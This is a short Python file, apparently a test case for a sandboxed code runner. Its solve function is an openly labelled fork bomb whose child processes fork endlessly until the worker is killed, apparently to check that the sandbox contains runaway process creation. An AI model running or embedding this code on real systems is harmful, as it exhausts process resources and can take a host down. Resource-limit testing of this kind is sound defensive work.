"""Fork bomb whose children never return: they keep forking until the worker is killed."""
import os
import time


def solve(n):
    forks = 0
    try:
        while True:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.05)
            forks += 1
    except BaseException as exc:
        return f"contained: {type(exc).__name__}"
